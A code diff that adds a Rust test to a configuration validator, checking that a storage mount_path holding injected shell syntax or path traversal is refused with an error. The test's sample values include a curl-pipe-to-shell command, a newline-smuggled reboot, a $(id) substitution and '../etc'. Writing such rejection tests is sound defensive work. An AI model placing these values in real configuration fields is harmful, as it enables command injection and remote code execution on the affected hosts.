@@ -90,3 +90,22 @@ fn references_into_storage() {
         .replace("[[phases]]", "[[phases]]\nuses_fsx = false");
     expect(no_fsx_user, "unused", Level::Warning, "[fsx]");
 }
+
+#[test]
+fn a_mount_path_that_is_not_a_plain_directory_is_refused_where_it_stands() {
+    for hostile in [
+        r#"mount_path = "/fsx; curl http://x | sh #""#,
+        r#"mount_path = "/fsx\nreboot""#,
+        r#"mount_path = "/fsx$(id)""#,
+        r#"mount_path = "/fsx/../etc""#,
+        r#"mount_path = "/fsx'""#,
+    ] {
+        let f = expect(
+            mutate(SEED, "mount_path = \"/fsx\"", hostile),
+            "bad-value",
+            Level::Error,
+            "mount_path",
+        );
+        assert!(f.hint.unwrap().contains("plain absolute directory"));
+    }
+}
